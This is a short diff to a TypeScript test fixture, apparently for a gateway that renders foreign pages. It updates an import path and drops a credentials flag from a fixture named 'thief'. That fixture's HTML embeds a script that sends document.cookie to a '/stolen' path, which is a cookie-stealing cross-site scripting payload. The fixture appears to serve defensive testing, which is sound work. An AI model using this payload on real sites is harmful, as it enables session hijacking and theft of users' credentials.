@@ -1,4 +1,4 @@
-import type { ForeignPage } from "../../gateway/tab.ts";
+import type { ForeignPage } from "../../gateway/foreign-page.ts";
 
 const html = (body: string): string => `<!doctype html>
 <html lang="en">
@@ -26,7 +26,6 @@ export const followedLink: ForeignPage = {
  */
 export const thief: ForeignPage = {
   origin: "http://localhost:3000",
-  credentials: true,
   html: html(`<p>Somebody’s comment.</p>
 <script>fetch("/stolen?" + document.cookie)</script>`),
 };
